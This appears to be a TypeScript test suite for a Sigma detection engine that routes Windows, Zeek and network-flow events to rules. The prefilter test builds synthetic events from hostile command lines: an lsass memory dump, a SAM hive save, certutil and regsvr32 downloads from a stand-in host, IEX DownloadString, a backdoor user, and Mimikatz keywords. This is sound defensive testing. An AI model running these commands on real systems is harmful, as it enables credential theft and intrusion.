import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { test } from 'node:test';
import { parse } from 'yaml';
import type { Event, Finding } from '../../model/index.js';
import { sharedData, skipUnlessData } from '../../testing/index.js';
import { SigmaDetector } from './detector.js';
import { loadRules } from './loader.js';
import { loadLogsourceMap, parseLogsourceMap } from './logsource-map.js';
import { compileRule, type SigmaRule } from './rule.js';

const SYSMON = 'Microsoft-Windows-Sysmon/Operational';

function rule(yaml: string): SigmaRule {
  return compileRule(parse(yaml), { file: 'inline.yml' });
}

let record = 0;
function ev(fields: Record<string, unknown>, kind = 'winjson'): Event {
  return {
    time: Date.UTC(2024, 4, 6, 7, 8, 9),
    source: { kind, uri: 'events.json', record: ++record },
    fields,
  };
}

function detect(rules: SigmaRule[], events: Event[], opts = {}): Finding[] {
  const out: Finding[] = [];
  new SigmaDetector(rules, opts).detect(events, out);
  return out;
}

const WHOAMI = rule(`
title: Whoami Execution
id: 7e8e4c1a-0000-4000-8000-000000000001
name: whoami_exec
logsource: {category: process_creation, product: windows}
detection:
  selection:
    Image|endswith: '\\whoami.exe'
    User|contains: 'bob'
  condition: selection
level: high
tags: [attack.discovery, attack.t1033, attack.T1059.001, cve.2021-1234]
`);

test('a rule only sees the events of its log source', () => {
  const fields = { Image: 'C:\\Windows\\System32\\whoami.exe', User: 'CORP\\bob' };
  const events = [
    ev({ Channel: SYSMON, EventID: 1, ...fields }),
    ev({ Channel: SYSMON, EventID: '1', ...fields }),
    ev({ Channel: 'microsoft-windows-sysmon/operational', EventID: 1, ...fields }),
    ev({ Channel: SYSMON, EventID: 3, ...fields }),
    ev({ Channel: 'Security', EventID: 1, ...fields }),
    ev({ EventID: 1, ...fields }),
    ev({ Channel: SYSMON, EventID: 1, ...fields }, 'zeek.conn'),
  ];
  const hits = detect([WHOAMI], events).map((f) => f.evidence[0].record! - events[0].source.record!);
  // sysmon 1 (number, string, channel in any case), and the kind does not matter for channels
  assert.deepEqual(hits, [0, 1, 2, 6]);
});

test('Security 4688 events are read through the field aliases of the map', () => {
  const e4688 = ev({
    Channel: 'Security',
    EventID: 4688,
    NewProcessName: 'C:\\Windows\\System32\\whoami.exe',
    SubjectUserName: 'bob',
    ProcessId: '0x44c',
    Computer: 'WS1.corp.local',
  });
  const [f] = detect([WHOAMI], [e4688]);
  assert.ok(f, '4688 matches through Image -> NewProcessName, User -> SubjectUserName');
  assert.deepEqual(
    f.entities.filter((e) => e.type === 'process' || e.type === 'user'),
    [
      { type: 'user', value: 'bob' },
      { type: 'process', value: 'C:\\Windows\\System32\\whoami.exe' },
    ],
  );
  // a field named like the alias target is not read under its Sysmon name
  assert.equal(
    detect([WHOAMI], [ev({ Channel: 'Security', EventID: 4688, Image: 'C:\\whoami.exe', User: 'bob' })])
      .length,
    0,
  );
});

test('findings carry the rule, ATT&CK ids, entities, evidence and a deterministic id', () => {
  const e = ev({
    Channel: SYSMON,
    EventID: 1,
    Image: 'C:\\Windows\\System32\\whoami.exe',
    User: 'CORP\\bob',
    Computer: 'WS1.corp.local',
    SourceIp: '10.0.0.5',
    TargetFilename: '-',
  });
  const [f] = detect([WHOAMI], [e]);
  assert.equal(f.detector, 'sigma');
  assert.equal(f.severity, 'high');
  assert.equal(f.time, e.time);
  assert.deepEqual(f.rule, { id: WHOAMI.id, title: 'Whoami Execution' });
  assert.deepEqual(f.attack, ['T1033', 'T1059.001']);
  assert.equal(f.host, 'WS1.corp.local');
  assert.deepEqual(f.entities, [
    { type: 'host', value: 'WS1.corp.local' },
    { type: 'user', value: 'CORP\\bob' },
    { type: 'ip', value: '10.0.0.5' },
    { type: 'process', value: 'C:\\Windows\\System32\\whoami.exe' },
  ]);
  assert.deepEqual(f.evidence, [e.source]);
  assert.equal(f.event, e.fields);
  assert.deepEqual(f.details, { sigmaName: 'whoami_exec' });
  const [again] = detect([WHOAMI], [e]);
  assert.equal(again.id, f.id, 'same rule and source: same id');
  const [other] = detect([WHOAMI], [{ ...e, source: { ...e.source, record: 999 } }]);
  assert.notEqual(other.id, f.id);
  assert.match(f.id, /^[0-9a-f]{24}$/);
});

test('kinds route network rules; where conditions split Sysmon event 12', () => {
  const dns = rule(`
title: dns
logsource: {product: zeek, service: dns}
detection:
  sel: {query|endswith: '.evil.example'}
  condition: sel
`);
  const fw = rule(`
title: firewall
logsource: {category: firewall}
detection:
  sel: {dst_port: 4444, dst_ip|cidr: 203.0.113.0/24}
  condition: sel
`);
  const add = rule(`
title: registry add
logsource: {category: registry_add, product: windows}
detection:
  sel: {TargetObject|contains: '\\Run\\'}
  condition: sel
`);
  const events = [
    ev({ query: 'a.evil.example' }, 'zeek.dns'),
    ev({ query: 'a.evil.example' }, 'zeek.http'),
    ev({ 'id.resp_h': '203.0.113.9', 'id.resp_p': 4444 }, 'zeek.conn'),
    ev({ dest_ip: '203.0.113.9', dest_port: 4444 }, 'eve.flow'),
    ev({ dest_ip: '198.51.100.1', dest_port: 4444 }, 'eve.flow'),
    ev({
      Channel: SYSMON,
      EventID: 12,
      EventType: 'CreateKey',
      TargetObject: 'HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\x',
    }),
    ev({
      Channel: SYSMON,
      EventID: 12,
      EventType: 'DeleteKey',
      TargetObject: 'HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\x',
    }),
  ];
  const got = detect([dns, fw, add], events).map(
    (f) => `${f.rule.title}@${f.evidence[0].record! - events[0].source.record!}`,
  );
  assert.deepEqual(got, ['dns@0', 'firewall@2', 'firewall@3', 'registry add@5']);
});

test('product windows alone sees every Windows channel; unmapped rules see nothing', () => {
  const any = rule(`
title: keywords anywhere
logsource: {product: windows}
detection:
  keywords: ['sekurlsa::']
  filter: {EventID: 15}
  condition: keywords and not filter
`);
  const unmapped = rule(`
title: unmapped
logsource: {product: linux, service: auditd}
detection:
  keywords: ['sekurlsa::']
  condition: keywords
`);
  const d = new SigmaDetector([any, unmapped]);
  assert.deepEqual(
    d.unmapped.map((r) => r.title),
    ['unmapped'],
  );
  const out: Finding[] = [];
  d.detect(
    [
      ev({
        Channel: 'Windows PowerShell',
        EventID: 800,
        Payload: 'Invoke-Mimikatz SEKURLSA::LogonPasswords',
      }),
      ev({ Channel: SYSMON, EventID: 15, Contents: 'sekurlsa::' }),
      ev({ Payload: 'sekurlsa::' }, 'auditd'),
    ],
    out,
  );
  assert.deepEqual(
    out.map((f) => f.rule.title),
    ['keywords anywhere'],
  );
});

test('the log source map is data and is validated', () => {
  const map = loadLogsourceMap();
  const pc = map.lookup({ product: 'windows', category: 'process_creation' });
  assert.ok(pc);
  assert.deepEqual(pc.sources[0], { channels: ['microsoft-windows-sysmon/operational'], eventIds: [1] });
  assert.equal(pc.sources[1].fields?.Image, 'NewProcessName');
  assert.equal(map.lookup({ product: 'aws', service: 'cloudtrail' }), undefined);
  assert.throws(
    () => parseLogsourceMap('logsources:\n  - product: x\n    sources: [{ EventID: 1 }]\n', 'm.yaml'),
    /needs 'Channel' or 'kind'/,
  );
  assert.throws(
    () => parseLogsourceMap('logsources:\n  - product: x\n    sources: [{ kind: k, bogus: 1 }]\n', 'm.yaml'),
    /unknown key 'bogus'/,
  );
  assert.throws(() => parseLogsourceMap('nothing: here\n', 'm.yaml'), /expected a 'logsources' list/);
  // the JSON form the build ships for the built-in map reads the same as the YAML
  const yml = readFileSync(new URL('./logsources.yaml', import.meta.url), 'utf8');
  const fromJson = parseLogsourceMap(JSON.stringify(parse(yml)), 'logsources.json');
  assert.deepEqual(fromJson.entries, parseLogsourceMap(yml, 'logsources.yaml').entries);
  assert.ok(fromJson.entries.length > 20);
  assert.throws(() => parseLogsourceMap('{"logsources": [', 'm.json'), /not valid JSON/);
  // a custom map routes a product of one's own
  const custom = parseLogsourceMap(
    'logsources:\n  - product: acme\n    sources: [{ kind: acme.audit, fields: { user: actor.name } }]\n',
    'm.yaml',
  );
  const acme = rule(`
title: acme
logsource: {product: acme}
detection:
  sel: {user: mallory}
  condition: sel
`);
  assert.equal(
    detect([acme], [ev({ 'actor.name': 'Mallory' }, 'acme.audit')], { logsources: custom }).length,
    1,
  );
});

test('the literal prefilter never changes the findings', {
  skip: skipUnlessData('sigma/rules/windows'),
}, () => {
  const loaded = loadRules([
    sharedData('sigma/rules/windows/process_creation'),
    sharedData('sigma/rules/windows/powershell'),
  ]);
  // events built to hit many different rules: command lines and images from common techniques
  const images = [
    'powershell.exe',
    'cmd.exe',
    'rundll32.exe',
    'regsvr32.exe',
    'certutil.exe',
    'whoami.exe',
    'mshta.exe',
    'wmic.exe',
  ];
  const commands = [
    'powershell -nop -w hidden -enc SQBFAFgA',
    'cmd.exe /c whoami /all',
    'rundll32.exe comsvcs.dll, MiniDump 624 C:\\temp\\lsass.dmp full',
    'regsvr32 /s /n /u /i:http://x/a.sct scrobj.dll',
    'certutil -urlcache -split -f http://x/a.exe a.exe',
    'mshta vbscript:Execute("x")',
    'wmic process call create "calc"',
    'IEX (New-Object Net.WebClient).DownloadString("http://x")',
    'net user /add hacker P@ss',
    'reg save HKLM\\SAM C:\\temp\\sam',
  ];
  const events: Event[] = [];
  for (const img of images) {
    for (const cmd of commands) {
      events.push(
        ev({
          Channel: SYSMON,
          EventID: 1,
          Image: `C:\\Windows\\System32\\${img}`,
          OriginalFileName: img.toUpperCase(),
          CommandLine: cmd,
          ParentImage: 'C:\\Windows\\explorer.exe',
        }),
      );
      events.push(
        ev({ Channel: 'Microsoft-Windows-PowerShell/Operational', EventID: 4104, ScriptBlockText: cmd }),
      );
    }
  }
  const key = (f: Finding) => `${f.rule.id}@${f.evidence[0].record}`;
  const withPf = detect(loaded.rules, events).map(key).sort();
  const without = detect(loaded.rules, events, { prefilter: false }).map(key).sort();
  assert.ok(withPf.length > 100, `the events hit many rules (${withPf.length})`);
  assert.deepEqual(withPf, without);
});

test('rules are indexed by the EventIDs their detection requires', () => {
  const logon = rule(`
title: logon
logsource: {product: windows, service: security}
detection:
  sel: {EventID: [4624, 4625], LogonType: 10}
  condition: sel
`);
  const anyId = rule(`
title: any id
logsource: {product: windows, service: security}
detection:
  sel: {EventID: 4624}
  other: {TargetUserName: bob}
  condition: sel or other
`);
  const notId = rule(`
title: negated id
logsource: {product: windows, service: security}
detection:
  sel: {TargetUserName: bob}
  filter: {EventID: 4624}
  condition: sel and not filter
`);
  assert.deepEqual(logon.eventIds, [4624, 4625]);
  assert.equal(anyId.eventIds, undefined, 'an OR branch without an id: any id');
  assert.equal(notId.eventIds, undefined, 'a negated id does not constrain');
  const d = new SigmaDetector([logon, anyId, notId]);
  const titles = (fields: Record<string, unknown>) => d.rulesFor(ev(fields)).map((r) => r.title);
  assert.deepEqual(titles({ Channel: 'Security', EventID: 4625 }), ['logon', 'any id', 'negated id']);
  assert.deepEqual(titles({ Channel: 'Security', EventID: 4688 }), ['any id', 'negated id']);
  assert.deepEqual(titles({ Channel: 'Security', EventID: '4624' }), ['logon', 'any id', 'negated id']);
  // and the process_creation source's own ids intersect the rule's
  const sysmonOnly = rule(`
title: sysmon only
logsource: {product: windows, category: process_creation}
detection:
  sel: {EventID: 1, Image|endswith: '\\\\x.exe'}
  condition: sel
`);
  const d2 = new SigmaDetector([sysmonOnly]);
  assert.equal(d2.rulesFor(ev({ Channel: SYSMON, EventID: 1 })).length, 1);
  assert.equal(d2.rulesFor(ev({ Channel: 'Security', EventID: 4688 })).length, 0);
});

test('network firewall rules see Zeek conn, open_conn and Argus flows through their field names', () => {
  const fw = rule(`
title: outbound to 4444
id: 7e8e4c1a-0000-4000-8000-0000000000f1
logsource: {category: firewall}
detection:
  selection:
    dst_port: 4444
  condition: selection
`);
  const out = detect(
    [fw],
    [
      ev({ 'id.orig_h': '10.0.0.5', 'id.resp_h': '1.2.3.4', 'id.resp_p': 4444 }, 'zeek.conn'),
      ev({ 'id.orig_h': '10.0.0.5', 'id.resp_h': '1.2.3.4', 'id.resp_p': 4444 }, 'zeek.open_conn'),
      ev({ SrcAddr: '10.0.0.5', DstAddr: '1.2.3.4', Sport: 50000, Dport: 4444 }, 'argus'),
      ev({ SrcAddr: '10.0.0.5', DstAddr: '1.2.3.4', Sport: 4444, Dport: 80 }, 'argus'),
      ev({ 'id.resp_p': 4444 }, 'zeek.dns'),
    ],
  );
  assert.deepEqual(
    out.map((f) => f.evidence[0].record),
    [record - 4, record - 3, record - 2],
  );
});
